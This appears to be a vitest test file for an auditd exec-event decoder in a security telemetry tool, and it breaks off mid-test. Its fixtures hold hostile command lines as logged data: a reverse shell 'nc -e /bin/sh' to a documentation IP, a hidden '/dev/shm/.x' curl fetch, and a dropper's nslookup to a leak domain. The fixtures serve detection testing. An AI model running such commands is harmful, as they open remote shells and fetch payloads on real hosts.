import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { DecodeOutput, Malformed, Skipped } from "../../../lib/telemetry/decoder.js";
import type { ExecEvent } from "../../../lib/telemetry/exec-event.js";
import { AUDITD_LIMITS, createAuditdDecoder } from "../../../lib/telemetry/sources/auditd.js";
import {
  type AuditRecord,
  MAX_AUDIT_LINE_CHARS,
  NOT_AN_AUDIT_RECORD,
  parseAuditLine,
} from "../../../lib/telemetry/sources/auditd-record.js";
import {
  BadValue,
  decodeProctitle,
  decodeUntrusted,
  untrustedField,
} from "../../../lib/telemetry/sources/auditd-values.js";
import { readSample } from "../../helpers/samples.js";

const sample = readSample;

const CAPTURED = sample("captured/exec-cases.auditd.log");
const NORMAL = sample("upstream/auditd/go-libaudit_testdata_normal.log");
const RHEL7_HEX = sample("upstream/auditd/go-libaudit_auparse_rhel7_hex-encoded.log-excerpt");
const UNAME_YAML = sample("upstream/auditd/go-libaudit_ubuntu-16.10_EXECVE.yaml-excerpt");
const DASH_YAML = sample("upstream/auditd/go-libaudit_aucoalesce_ubuntu-20.04.6.yaml");

/** The lines of the first `key: |` block of a go-libaudit YAML fixture, without their 4-space indent. */
const yamlBlock = (yaml: string): string => {
  const lines = yaml.split("\n");
  const start = lines.findIndex((line) => line.trimEnd().endsWith(": |"));
  const block: string[] = [];
  for (const line of lines.slice(start + 1)) {
    if (!line.startsWith("    ")) break;
    block.push(line.slice(4));
  }
  return block.join("\n");
};

interface Decoded {
  out: DecodeOutput[];
  /** Outputs produced by push() alone, before flush(). */
  pushed: number;
  events: ExecEvent[];
  malformed: Malformed[];
  skipped: Skipped[];
}

const decodeLines = (lines: readonly string[], defaultHost = "cw-stream"): Decoded => {
  const decoder = createAuditdDecoder({ defaultHost });
  const out: DecodeOutput[] = [];
  lines.forEach((text, i) => {
    decoder.push({ text, line: i + 1 }, out);
  });
  const pushed = out.length;
  decoder.flush(out);
  return {
    out,
    pushed,
    events: out.flatMap((o) => (o.kind === "event" ? [o.event] : [])),
    malformed: out.flatMap((o) => (o.kind === "malformed" ? [o] : [])),
    skipped: out.flatMap((o) => (o.kind === "skipped" ? [o] : [])),
  };
};

const decode = (text: string, defaultHost?: string): Decoded => decodeLines(text.split("\n"), defaultHost);

const record = (line: string): AuditRecord => {
  const parsed = parseAuditLine(line);
  if (typeof parsed === "string") throw new Error(`fixture line does not parse: ${parsed}`);
  return parsed;
};

const eventOf = (decoded: Decoded, pid: number): ExecEvent => {
  const found = decoded.events.filter((e) => e.process.pid === pid);
  expect(found).toHaveLength(1);
  return found[0]!;
};

// --- synthetic records, shaped like the kernel writes them ---------------------------------------------

const STAMP = "1700000000.123";
const hex = (text: string): string => Buffer.from(text, "utf8").toString("hex").toUpperCase();
const head = (type: string, serial: number, node?: string): string =>
  `${node === undefined ? "" : `node=${node} `}type=${type} msg=audit(${STAMP}:${serial}):`;

interface SyscallOptions {
  pid?: number;
  ppid?: number;
  nr?: number;
  arch?: string;
  success?: string;
  exe?: string;
  node?: string;
  enriched?: string;
}
const syscall = (serial: number, o: SyscallOptions = {}): string =>
  `${head("SYSCALL", serial, o.node)} arch=${o.arch ?? "c000003e"} syscall=${o.nr ?? 59} ` +
  `success=${o.success ?? "yes"} exit=0 a0=55d85d6719d0 a1=55d85d69c970 a2=55d85d720450 a3=8 items=2 ` +
  `ppid=${o.ppid ?? 1} pid=${o.pid ?? 100} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 ` +
  `egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="x" exe=${o.exe ?? '"/usr/bin/curl"'} key="exec"` +
  (o.enriched === undefined ? "" : `\x1d${o.enriched}`);
const execve = (serial: number, fields: string, node?: string): string =>
  `${head("EXECVE", serial, node)} ${fields}`;
const quotedArgs = (args: readonly string[], from = 0): string =>
  args.map((arg, i) => `a${i + from}="${arg}"`).join(" ");
const cwd = (serial: number, value = '"/home/u"', node?: string): string =>
  `${head("CWD", serial, node)} cwd=${value}`;
const path0 = (serial: number, name: string, node?: string): string =>
  `${head("PATH", serial, node)} item=0 name="${name}" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL`;
const proctitle = (serial: number, args: readonly string[], node?: string): string =>
  `${head("PROCTITLE", serial, node)} proctitle=${hex(args.join("\0"))}`;
const eoe = (serial: number, node?: string): string => head("EOE", serial, node);
/** The line as a shipper that cut it would leave it: up to and including `marker`. */
const cutAfter = (line: string, marker: string): string =>
  line.slice(0, line.indexOf(marker) + marker.length);

/** A whole exec as the kernel logs it, without EOE. */
const exec = (serial: number, args: readonly string[], o: SyscallOptions = {}): string[] => [
  syscall(serial, o),
  execve(serial, `argc=${args.length} ${quotedArgs(args)}`, o.node),
  cwd(serial, undefined, o.node),
  path0(serial, "/usr/bin/curl", o.node),
  proctitle(serial, args, o.node),
];

// --- record level -----------------------------------------------------------------------------------

describe("parseAuditLine", () => {
  const normalLines = NORMAL.split("\n");
  const capturedLines = CAPTURED.split("\n");

  it("reads the header and keeps values as logged (go-libaudit normal.log, hex exe)", () => {
    const r = record(normalLines[0]!);
    expect(r).toMatchObject({ type: "SYSCALL", time: 1492037289295, stamp: "1492037289.295", serial: 58 });
    expect(r.node).toBeUndefined();
    expect(r.fields.get("exe")).toBe(
      "2F7573722F62696E2F707974686F6E322E373B3538643163636662202864656C6574656429",
    );
    expect(r.quoted.has("exe")).toBe(false);
    expect(r.fields.get("comm")).toBe("google_accounts");
    expect(r.quoted.has("comm")).toBe(true);
    expect(r.fields.get("key")).toBe("(null)");
    expect(r.fields.get("tty")).toBe("(none)");
    expect(untrustedField(r, "exe")).toBe("/usr/bin/python2.7;58d1ccfb (deleted)");
    expect(untrustedField(r, "comm")).toBe("google_accounts");
    expect(untrustedField(r, "key")).toBeUndefined();
  });

  it("splits ENRICHED lines at the GS byte", () => {
    const r = record(capturedLines[0]!);
    expect(r.fields.get("key")).toBe("capture4343");
    expect(r.fields.has("ARCH")).toBe(false);
    expect(r.enriched?.get("ARCH")).toBe("x86_64");
    expect(r.enriched?.get("SYSCALL")).toBe("execve");
    expect(r.enriched?.get("AUID")).toBe("unknown(4343)");
    expect(r.enriched?.get("UID")).toBe("root");
  });

  it("reads a SOCKADDR whose translation is a { … } group", () => {
    const line = capturedLines.find((l) => l.startsWith("type=SOCKADDR"))!;
    const r = record(line);
    expect(r.fields.get("saddr")).toBe("100000000000000000000000");
    expect(r.enriched?.get("SADDR")).toBe("{ saddr_fam=netlink nlnk-fam=16 nlnk-pid=0 }");
  });

  it.each([
    {
      name: "node= prefix and leading blanks",
      line: "  node=web-1 type=EOE msg=audit(1700000000.001:2):",
      expected: { node: "web-1", type: "EOE", time: 1700000000001, serial: 2 },
      fields: {},
    },
    {
      name: "two blanks after the header (RHEL 7 CWD)",
      line: RHEL7_HEX.split("\n")[0]!,
      expected: { type: "CWD", stamp: "1500661699.656", serial: 1208725 },
      fields: { cwd: "2F746D702F6120622063" },
    },
    {
      name: "a quoted value containing '='",
      line: yamlBlock(UNAME_YAML).split("\n")[0]!,
      expected: { type: "SYSCALL", serial: 8972 },
      fields: { key: "key=user_commands", pid: "10043" },
    },
    {
      name: "user-space record with a single-quoted msg",
      line: `type=USER_CMD msg=audit(1700000000.000:7): pid=1 uid=0 msg='cwd="/root" cmd=6C73 terminal=pts/0 res=success'`,
      expected: { type: "USER_CMD", serial: 7 },
      fields: { pid: "1", msg: 'cwd="/root" cmd=6C73 terminal=pts/0 res=success' },
    },
    {
      name: "AVC prose",
      line: `type=AVC msg=audit(1700000000.000:8): avc:  denied  { read } for  pid=12 comm="cat" tclass=file permissive=0`,
      expected: { type: "AVC", serial: 8 },
      fields: { pid: "12", comm: "cat" },
    },
    {
      name: "CRLF line end",
      line: `type=CWD msg=audit(1700000000.000:9): cwd="/srv"\r`,
      expected: { type: "CWD" },
      fields: { cwd: "/srv" },
    },
  ])("parses $name", ({ line, expected, fields }) => {
    const r = record(line);
    expect(r).toMatchObject(expected);
    expect(Object.fromEntries(r.fields)).toMatchObject(fields);
  });

  it.each([
    { name: "plain text", line: "hello world", reason: NOT_AN_AUDIT_RECORD },
    { name: "empty", line: "", reason: NOT_AN_AUDIT_RECORD },
    { name: "no msg=audit", line: "type=SYSCALL arch=c000003e syscall=59", reason: NOT_AN_AUDIT_RECORD },
    {
      name: "binary garbage",
      line: "\u0000\u0001ELF\ufffd\u0002",
      reason: /^not an audit record: binary data/,
    },
    {
      name: "letters in seconds",
      line: "type=SYSCALL msg=audit(17958x0.612:1): a=1",
      reason: /bad timestamp/,
    },
    { name: "no milliseconds", line: "type=SYSCALL msg=audit(1795822038:1): a=1", reason: /bad timestamp/ },
    { name: "empty serial", line: "type=SYSCALL msg=audit(1795822038.612:): a=1", reason: /bad serial/ },
    {
      name: "serial with junk",
      line: "type=SYSCALL msg=audit(1795822038.612:12x): a=1",
      reason: /bad serial/,
    },
    {
      name: "line cut inside a quoted value",
      line: 'type=EXECVE msg=audit(1.000:1): argc=2 a0="nsl',
      reason: 'unterminated quoted value of "a0"',
    },
    {
      name: "line cut inside a key",
      line: 'type=EXECVE msg=audit(1.000:1): argc=2 a0="nslookup" a1',
      reason: /^field without '='/,
    },
    {
      name: "control byte in a value",
      line: 'type=EXECVE msg=audit(1.000:1): argc=1 a0="a\u0007b"',
      reason: /control byte 0x07/,
    },
    {
      name: "second GS byte",
      line: 'type=PATH msg=audit(1.000:1): item=0\u001dOUID="root"\u001dX=1',
      reason: /control byte 0x1d/,
    },
    {
      name: "unterminated { … } in the translation",
      line: "type=SOCKADDR msg=audit(1.000:1): saddr=0100\u001dSADDR={ saddr_fam=local",
      reason: /unterminated \{ … \} value of "SADDR"/,
    },
    {
      name: "a line longer than any audit record",
      line: `type=EXECVE msg=audit(1.000:1): argc=1 a0=${"41".repeat(MAX_AUDIT_LINE_CHARS)}`,
      reason: /^record too long/,
    },
  ])("rejects $name", ({ line, reason }) => {
    const parsed = parseAuditLine(line);
    expect(typeof parsed).toBe("string");
    if (typeof reason === "string") expect(parsed).toBe(reason);
    else expect(parsed).toMatch(reason);
  });
});

describe("auditd values", () => {
  it.each([
    { value: "2F746D702F6120622063", quoted: false, key: "cwd", text: "/tmp/a b c" },
    { value: "2f746d70", quoted: false, key: "cwd", text: "/tmp" },
    { value: "/usr/bin/grep", quoted: true, key: "exe", text: "/usr/bin/grep" },
    { value: "ABCD", quoted: true, key: "a1", text: "ABCD" },
    { value: "(null)", quoted: false, key: "name", text: undefined },
    { value: "(none)", quoted: false, key: "exe", text: undefined },
  ])("decodes $key=$value (quoted: $quoted)", ({ value, quoted, key, text }) => {
    expect(decodeUntrusted(value, quoted, key)).toBe(text);
  });

  it.each([
    { value: "ABC", key: "a2" },
    { value: "XYZW", key: "a2" },
    { value: "", key: "cwd" },
    { value: "2F74 ", key: "name" },
  ])("rejects bare non-hex $value in $key", ({ value, key }) => {
    const decoded = decodeUntrusted(value, false, key);
    expect(decoded).toBeInstanceOf(BadValue);
    expect((decoded as BadValue).reason).toBe(`bad hex in ${key}`);
  });

  it("decodes the RHEL 7 hex fragments (CWD with spaces, EXECVE a2 with newlines)", () => {
    const [cwdLine, execveLine] = RHEL7_HEX.split("\n");
    expect(untrustedField(record(cwdLine!), "cwd")).toBe("/tmp/a b c");
    const r = record(execveLine!);
    expect(untrustedField(r, "a0")).toBe("jq");
    const a2 = untrustedField(r, "a2");
    expect(typeof a2).toBe("string");
    expect((a2 as string).startsWith("{\n")).toBe(true);
    expect(a2 as string).toContain("/usr/bin/jq");
  });

  it("splits a hex PROCTITLE on NUL and keeps a quoted one whole", () => {
    const uname = yamlBlock(UNAME_YAML)
      .split("\n")
      .find((l) => l.startsWith("type=PROCTITLE"))!;
    expect(decodeProctitle(record(uname))).toEqual({ args: ["uname", "-a"], bytes: 8 });
    const quoted = 'type=PROCTITLE msg=audit(1.000:1): proctitle="hostname"';
    expect(decodeProctitle(record(quoted))).toEqual({ args: ["hostname"], bytes: 8 });
    const bad = decodeProctitle(record("type=PROCTITLE msg=audit(1.000:1): proctitle=756E6"));
    expect((bad as BadValue).reason).toBe("bad hex in proctitle");
  });
});

// --- samples ----------------------------------------------------------------------------------------

describe("captured exec-cases.auditd.log (ENRICHED, no EOE)", () => {
  const decoded = decode(CAPTURED, "vm");

  it("yields the 27 execs, skips the auditctl sendto and finds nothing malformed", () => {
    expect(decoded.malformed).toEqual([]);
    expect(decoded.events).toHaveLength(27);
    expect(decoded.skipped).toEqual([{ kind: "skipped", line: 194, reason: "not an exec: syscall 44" }]);
  });

  it("completes every event on its PROCTITLE, before flush()", () => {
    expect(decoded.pushed).toBe(decoded.out.length);
  });

  it("decodes the nslookup run by the dropper script", () => {
    expect(eventOf(decoded, 14828)).toEqual({
      host: { name: "vm" },
      user: { id: "0", name: "root", auditId: "4343" },
      process: {
        pid: 14828,
        ppid: 14826,
        executable: "/usr/bin/nslookup",
        args: ["nslookup", "vm.leak.example", "192.0.2.53"],
        cwd: "/opt/sim",
        sessionId: "16",
      },
      time: 1795822038628,
      source: { format: "auditd", eventId: "vm:1795822038.628:1051", sequence: 1051 },
    });
  });

  it("names the shebang script of the dropper", () => {
    expect(eventOf(decoded, 14826).process).toEqual({
      pid: 14826,
      ppid: 14823,
      executable: "/usr/bin/dash",
      invokedPath: "/tmp/dropper.sh",
      script: "/tmp/dropper.sh",
      args: ["/bin/sh", "/tmp/dropper.sh"],
      cwd: "/opt/sim",
      sessionId: "16",
    });
  });

  it("hex-decodes the /dev/shm/.x command string", () => {
    const x = eventOf(decoded, 14833);
    expect(x.process.executable).toBe("/dev/shm/.x");
    expect(x.process.args).toEqual([
      "/dev/shm/.x",
      "-c",
      "curl -s -m 1 http://192.0.2.10/p -o /dev/null; true",
    ]);
    expect(x.process.invokedPath).toBeUndefined();
  });

  it("keeps the invoked path of a usrmerge symlink without calling it a script", () => {
    const ip = eventOf(decoded, 14824).process;
    expect(ip).toMatchObject({ executable: "/usr/bin/ip", invokedPath: "/sbin/ip" });
    expect(ip.script).toBeUndefined();
  });

  it("uses EXECVE, not the stale PROCTITLE, for a process that execs again", () => {
    // pid 14823 runs env → unshare → bash; the kernel caches PROCTITLE per task, so all three PROCTITLE
    // records still say "bash capture.sh …".
    const execs = decoded.events.filter((e) => e.process.pid === 14823).map((e) => e.process.args[0]);
    expect(execs).toEqual(["env", "/usr/bin/unshare", "/bin/bash", "/bin/bash"]);
  });
});

describe("go-libaudit samples", () => {
  it("normal.log: grep and cat, failed connect and other syscalls skipped", () => {
    const decoded = decode(NORMAL, "rhel7");
    expect(decoded.malformed).toEqual([]);
    expect(decoded.events).toEqual([
      {
        host: { name: "rhel7" },
        user: { id: "1000", auditId: "1000" },
        process: {
          pid: 13393,
          ppid: 12041,
          executable: "/usr/bin/grep",
          args: ["grep", "--color=auto", "mapping"],
          cwd: "/home/andrew_kroh",
          sessionId: "802",
        },
        time: 1492037291036,
        source: { format: "auditd", eventId: "rhel7:1492037291.036:59", sequence: 59 },
      },
      {
        host: { name: "rhel7" },
        user: { id: "1000", auditId: "1000" },
        process: {
          pid: 13392,
          ppid: 12041,
          executable: "/usr/bin/cat",
          args: ["cat", "securitybeat"],
          cwd: "/home/andrew_kroh",
          sessionId: "802",
        },
        time: 1492037291038,
        source: { format: "auditd", eventId: "rhel7:1492037291.038:60", sequence: 60 },
      },
    ]);
    expect(decoded.skipped.map((s) => [s.line, s.reason])).toEqual([
      [1, "not an exec: syscall 42"],
      [13, "not an exec: syscall 42"],
      [17, "not an exec: syscall 43"],
    ]);
  });

  it("auparse rhel7 excerpt: two fragments of different events are incomplete, not malformed", () => {
    const decoded = decode(RHEL7_HEX);
    expect(decoded.malformed).toEqual([]);
    expect(decoded.events).toEqual([]);
    expect(decoded.skipped.map((s) => s.reason)).toEqual([
      "incomplete event: no SYSCALL record",
      "incomplete event: no SYSCALL record",
    ]);
  });

  it("ubuntu-16.10 YAML: uname -a with PROCTITLE and EOE", () => {
    const decoded = decode(yamlBlock(UNAME_YAML), "ubuntu");
    expect(decoded.malformed).toEqual([]);
    expect(decoded.skipped).toEqual([]);
    expect(decoded.pushed).toBe(1);
    expect(decoded.events).toEqual([
      {
        host: { name: "ubuntu" },
        user: { id: "1001", auditId: "1001" },
        process: {
          pid: 10043,
          ppid: 10027,
          executable: "/bin/uname",
          args: ["uname", "-a"],
          cwd: "/home/andrew_kroh",
          sessionId: "11",
        },
        time: 1492752522985,
        source: { format: "auditd", eventId: "ubuntu:1492752522.985:8972", sequence: 8972 },
      },
    ]);
  });

  it("ubuntu-20.04 YAML: setuid dash -p, no CWD record", () => {
    const decoded = decode(yamlBlock(DASH_YAML));
    expect(decoded.malformed).toEqual([]);
    const [event] = decoded.events;
    expect(decoded.events).toHaveLength(1);
    // Setuid: euid=0, but uid and the login uid (auid) stay 1005.
    expect(event!.user).toEqual({ id: "1005", auditId: "1005" });
    expect(event!.process).toEqual({
      pid: 2380168,
      ppid: 2380071,
      executable: "/usr/bin/dash",
      args: ["dash", "-p"],
      sessionId: "1456",
    });
  });
  // go-libaudit_ubuntu-16.10_EXECVE.json.golden-excerpt is aucoalesce JSON, not an auditd log.
});

// --- assembly -----------------------------------------------------------------------------------------

describe("event assembly", () => {
  it("assembles interleaved events", () => {
    const decoded = decodeLines([
      syscall(100, { pid: 1000 }),
      syscall(101, { pid: 1001 }),
      execve(100, `argc=2 ${quotedArgs(["curl", "http://a"])}`),
      execve(101, `argc=2 ${quotedArgs(["wget", "http://b"])}`),
      cwd(101, '"/b"'),
      cwd(100, '"/a"'),
      path0(100, "/usr/bin/curl"),
      path0(101, "/usr/bin/curl"),
      proctitle(101, ["wget", "http://b"]),
      proctitle(100, ["curl", "http://a"]),
    ]);
    expect(decoded.malformed).toEqual([]);
    expect(decoded.events.map((e) => [e.process.pid, e.process.args, e.process.cwd])).toEqual([
      [1001, ["wget", "http://b"], "/b"],
      [1000, ["curl", "http://a"], "/a"],
    ]);
  });

  it("joins a long argument logged as hex chunks (a1_len, a1[0], a1[1]), across records too", () => {
    const arg = `bash -c '${"x".repeat(40)}' ; echo "done"`;
    const encoded = hex(arg);
    const first = encoded.slice(0, 54);
    const second = encoded.slice(54);
    const decoded = decodeLines([
      syscall(200, { pid: 2000 }),
      execve(200, `argc=3 a0="sh" a1_len=${encoded.length} a1[0]=${first}`),
      execve(200, `a1[1]=${second} a2="end"`),
      proctitle(200, ["sh"]),
    ]);
    expect(decoded.malformed).toEqual([]);
    expect(decoded.events[0]!.process.args).toEqual(["sh", arg, "end"]);
    expect(decoded.events[0]!.process.argsTruncated).toBeUndefined();
  });

  it("joins chunks that split a multi-byte character", () => {
    const arg = "ééé";
    const encoded = hex(arg); // C3A9C3A9C3A9
    const decoded = decodeLines([
      syscall(201),
      execve(
        201,
        `argc=2 a0="echo" a1_len=${encoded.length} a1[0]=${encoded.slice(0, 6)} a1[1]=${encoded.slice(6)}`,
      ),
      eoe(201),
    ]);
    expect(decoded.events[0]!.process.args).toEqual(["echo", arg]);
  });

  it("flags an argument whose chunks fall short of aN_len", () => {
    const encoded = hex("a b c d e f");
    const decoded = decodeLines([
      syscall(202),
      execve(202, `argc=2 a0="echo" a1_len=${encoded.length} a1[0]=${encoded.slice(0, 8)}`),
      eoe(202),
    ]);
    expect(decoded.events[0]!.process).toMatchObject({ args: ["echo", "a b "], argsTruncated: true });
  });

  it("reads args split over several EXECVE records", () => {
    const decoded = decodeLines([
      syscall(300),
      execve(300, `argc=4 ${quotedArgs(["nc", "-e"])}`),
      execve(300, quotedArgs(["/bin/sh", "203.0.113.9"], 2)),
      eoe(300),
    ]);
    expect(decoded.events[0]!.process.args).toEqual(["nc", "-e", "/bin/sh", "203.0.113.9"]);
    expect(decoded.events[0]!.process.argsTruncated).toBeUndefined();
  });

  it("flags argsTruncated when argc is larger than the args logged", () => {
    const decoded = decodeLines([
      syscall(301),
      execve(301, `argc=5 ${quotedArgs(["curl", "-s"])}`),
      eoe(301),
    ]);
    expect(decoded.events[0]!.process).toMatchObject({ args: ["curl", "-s"], argsTruncated: true });
  });

  it.each([
    { name: "short", args: ["dig", "example.org"], truncated: undefined },
    { name: "at the kernel's 128-byte cap", args: ["curl", "x".repeat(123)], truncated: true },
  ])("falls back to PROCTITLE without EXECVE ($name)", ({ args, truncated }) => {
    const decoded = decodeLines([syscall(400), cwd(400), proctitle(400, args)]);
    expect(decoded.events[0]!.process.args).toEqual(args);
    expect(decoded.events[0]!.process.argsTruncated).toBe(truncated);
  });

  it("falls back to PROCTITLE, flagged, when only a continuation EXECVE record arrived", () => {
    const decoded = decodeLines([syscall(402), execve(402, 'a2="x"'), proctitle(402, ["sh", "-c", "x"])]);
    expect(decoded.events[0]!.process).toMatchObject({ args: ["sh", "-c", "x"], argsTruncated: true });
  });

  it("keeps an empty argv as logged (argc=0, as in the pkexec exploit)", () => {
    const decoded = decodeLines([syscall(403), execve(403, "argc=0"), proctitle(403, ["pkexec"])]);
    expect(decoded.events[0]!.process.args).toEqual([]);
    expect(decoded.events[0]!.process.argsTruncated).toBeUndefined();
  });

  it("reports no args, flagged, when neither EXECVE nor PROCTITLE was logged", () => {
    const decoded = decodeLines([syscall(401), cwd(401), eoe(401)]);
    expect(decoded.events[0]!.process).toMatchObject({ args: [], argsTruncated: true });
  });

  it.each([
    { name: "x86_64 execve", arch: "c000003e", nr: 59 },
    { name: "x86_64 execveat", arch: "c000003e", nr: 322 },
    { name: "x32 execve", arch: "c000003e", nr: 0x40000000 + 520 },
    { name: "aarch64 execve", arch: "c00000b7", nr: 221 },
    { name: "aarch64 execveat", arch: "c00000b7", nr: 281 },
    { name: "i386 execve", arch: "40000003", nr: 11 },
    { name: "upper-case arch", arch: "C000003E", nr: 59 },
  ])("accepts $name", ({ arch, nr }) => {
    const decoded = decodeLines(exec(500, ["curl", "x"], { arch, nr }));
    expect(decoded.events).toHaveLength(1);
  });

  it("accepts an unknown arch when ENRICHED names the syscall execve", () => {
    const decoded = decodeLines(
      exec(501, ["curl"], { arch: "80000000", nr: 9999, enriched: "SYSCALL=execve" }),
    );
    expect(decoded.events).toHaveLength(1);
  });

  it.each([
    { name: "a failed execve", o: { success: "no" }, reason: "failed execve" },
    { name: "another syscall", o: { nr: 42 }, reason: "not an exec: syscall 42" },
    {
      name: "execve's number on another arch",
      o: { arch: "c00000b7", nr: 59 },
      reason: "not an exec: syscall 59",
    },
  ])("skips $name", ({ o, reason }) => {
    const decoded = decodeLines(exec(502, ["curl"], o));
    expect(decoded.events).toEqual([]);
    expect(decoded.malformed).toEqual([]);
    expect(decoded.skipped).toEqual([{ kind: "skipped", line: 1, reason }]);
  });

  it("takes host and eventId from node=, and keeps two hosts' equal serials apart", () => {
    const decoded = decodeLines([
      ...exec(600, ["curl"], { node: "web-1", pid: 1 }),
      ...exec(600, ["wget"], { node: "web-2", pid: 2 }),
      ...exec(600, ["dig"], { pid: 3 }),
    ]);
    expect(decoded.events.map((e) => [e.host.name, e.source.eventId, e.process.args[0]])).toEqual([
      ["web-1", `web-1:${STAMP}:600`, "curl"],
      ["web-2", `web-2:${STAMP}:600`, "wget"],
      ["cw-stream", `cw-stream:${STAMP}:600`, "dig"],
    ]);
  });

  it("completes on EOE, and ignores records of an event already emitted", () => {
    const decoded = decodeLines([
      syscall(700),
      execve(700, `argc=1 ${quotedArgs(["id"])}`),
      eoe(700),
      cwd(700, '"/late"'),
      eoe(700),
    ]);
    expect(decoded.pushed).toBe(1);
    expect(decoded.out).toHaveLength(1);
    expect(decoded.events[0]!.process.cwd).toBeUndefined();
  });

  it("completes an event without PROCTITLE or EOE once the serial has moved on", () => {
    const lag = AUDITD_LIMITS.maxSerialLag;
    const decoded = decodeLines([
      syscall(800, { pid: 1 }),
      execve(800, `argc=1 ${quotedArgs(["id"])}`),
      syscall(800 + lag, { pid: 2 }),
      syscall(801 + lag, { pid: 3 }),
    ]);
    expect(decoded.pushed).toBe(1);
    expect(decoded.events.map((e) => e.process.pid)).toEqual([1, 2, 3]);
  });

  it("keeps at most maxOpenEvents events open", () => {
    const hosts = AUDITD_LIMITS.maxOpenEvents + 100;
    const lines = Array.from({ length: hosts }, (_, i) => syscall(900, { node: `h${i}`, pid: i }));
    const decoded = decodeLines(lines);
    expect(decoded.pushed).toBe(100);
    expect(decoded.events.slice(0, 100).map((e) => e.process.pid)).toEqual(
      Array.from({ length: 100 }, (_, i) => i),
    );
    expect(decoded.events).toHaveLength(hosts);
  });

  it("reports fragments without SYSCALL as incomplete", () => {
    const decoded = decodeLines([
      cwd(1000),
      execve(1000, `argc=1 ${quotedArgs(["ls"])}`),
      proctitle(1000, ["ls"]),
    ]);
    expect(decoded.skipped).toEqual([
      { kind: "skipped", line: 1, reason: "incomplete event: no SYSCALL record" },
    ]);
  });

  it("keeps a hex exe with ' (deleted)' and takes the user name from ENRICHED", () => {
    const decoded = decodeLines([
      ...exec(1100, ["nc"], {
        exe: hex("/tmp/nc (deleted)"),
        enriched: 'ARCH=x86_64 SYSCALL=execve UID="www-data"',
      }),
      ...exec(1101, ["nc"], { enriched: 'SYSCALL=execve UID="unknown(4343)"' }),
    ]);
    expect(decoded.events[0]!.process.executable).toBe("/tmp/nc (deleted)");
    expect(decoded.events[0]!.process.invokedPath).toBe("/usr/bin/curl");
    expect(decoded.events[0]!.user).toEqual({ id: "1000", name: "www-data", auditId: "1000" });
    expect(decoded.events[1]!.user).toEqual({ id: "1000", auditId: "1000" });
    expect(decoded.events[1]!.process.sessionId).toBe("3");
  });

  it("cuts the args of an event past its records cap", () => {
    const records = AUDITD_LIMITS.maxRecordsPerEvent + 10;
    const lines = [syscall(1200), execve(1200, `argc=${records} a0="xargs"`)];
    for (let i = 1; i < records; i++) lines.push(execve(1200, `a${i}="f${i}"`));
    const decoded = decodeLines(lines);
    const process = decoded.events[0]!.process;
    expect(process.argsTruncated).toBe(true);
    expect(process.args.length).toBe(AUDITD_LIMITS.maxRecordsPerEvent - 1);
  });

  it("cuts the args of an event past its argument text cap", () => {
    const chunk = "41".repeat(30_000);
    const pieces = Math.ceil(AUDITD_LIMITS.maxArgCharsPerEvent / chunk.length) + 2;
    const lines = [syscall(1300), execve(1300, `argc=2 a0="cat" a1_len=${chunk.length * pieces}`)];
    for (let i = 0; i < pieces; i++) lines.push(execve(1300, `a1[${i}]=${chunk}`));
    const decoded = decodeLines(lines);
    const process = decoded.events[0]!.process;
    expect(process.argsTruncated).toBe(true);
    expect(process.args[1]!.length).toBeLessThanOrEqual(AUDITD_LIMITS.maxArgCharsPerEvent / 2);
  });

  it("builds events whose strings keep none of their audit lines alive", () => {
    setFlagsFromString("--expose-gc");
    const gc = runInNewContext("gc") as () => void;
    const heap = () => {
      gc();
      return process.memoryUsage().heapUsed;
    };
    const before = heap();
    // 32 execs of four 60 KB lines each (8 MB): each value the event takes is long enough for V8 to make its
    // slice a view into the line.
    const pad = `pad="${"x".repeat(60_000)}"`;
    const node = "host-with-a-long-name.example.com";
    const tool = "/usr/local/bin/a-tool-with-a-long-name";
    let events: ExecEvent[] = [];
    for (let serial = 1; serial <= 32; serial++) {
      const lines = [
        syscall(serial, { node, exe: `"${tool}" ${pad}`, enriched: 'UID="a-user-with-a-long-name"' }),
        execve(serial, `argc=2 a0="${tool}" a1="--an-argument-long-enough-${serial}" ${pad}`, node),
        cwd(serial, `"/home/someone/a-working-directory-${serial}" ${pad}`, node),
        `${path0(serial, `/usr/local/bin/a-link-with-a-long-name-${serial}`, node)} ${pad}`,
        proctitle(serial, [tool, "--an-argument"], node),
      ];
      events = [...events, ...decodeLines(lines).events];
    }
    expect(events).toHaveLength(32);
    expect(events[31]!.process).toMatchObject({
      executable: tool,
      invokedPath: "/usr/local/bin/a-link-with-a-long-name-32",
      args: [tool, "--an-argument-long-enough-32"],
      cwd: "/home/someone/a-working-directory-32",
    });
    expect(events[31]!.host.name).toBe(node);
    expect(events[31]!.user.name).toBe("a-user-with-a-long-name");
    expect(heap() - before).toBeLessThan(2 << 20);
  });
});

// --- hostile input ------------------------------------------------------------------------------------

describe("hostile lines", () => {
  const before = exec(1, ["curl", "http://before"], { pid: 11 });
  const after = exec(2, ["curl", "http://after"], { pid: 22 });

  it.each([
    {
      name: "a record cut mid-way",
      lines: [cutAfter(syscall(3, { pid: 33 }), 'exe="/usr')],
      reasons: ['unterminated quoted value of "exe"'],
    },
    {
      name: "binary garbage",
      lines: ["\u007fELF\u0002\u0001\u0001\u0000\u0000\ufffd\ufffd"],
      reasons: [/^not an audit record: binary data/],
    },
    {
      name: "binary bytes inside a record",
      lines: [`${cwd(3)}\u0000\u0000\ufffd`],
      reasons: [/binary data/],
    },
    {
      name: "odd-length hex",
      lines: [syscall(3, { pid: 33 }), execve(3, 'argc=2 a0="sh" a1=2F746D70A')],
      reasons: [undefined, "bad hex in a1"],
    },
    {
      name: "non-hex in a hex-only position",
      lines: [syscall(3, { pid: 33 }), cwd(3, "/tmp/not-hex")],
      reasons: [undefined, "bad hex in cwd"],
    },
    {
      name: "a 1 MB line",
      lines: [`${head("EXECVE", 3)} argc=1 a0=${"41".repeat(512 * 1024)}`],
      reasons: [/^record too long \(1048\d{3} characters, max 65536\)$/],
    },
    {
      name: "a record split across two lines",
      lines: [
        syscall(3, { pid: 33 }),
        execve(3, `argc=3 ${quotedArgs(["nslookup"])}`),
        quotedArgs(["x.example", "192.0.2.53"], 1),
      ],
      reasons: [undefined, undefined, NOT_AN_AUDIT_RECORD],
    },
  ])("reports $name as malformed and keeps the events around it", ({ lines, reasons }) => {
    const all = [...before, ...lines, ...after];
    let decoded: Decoded | undefined;
    expect(() => {
      decoded = decodeLines(all);
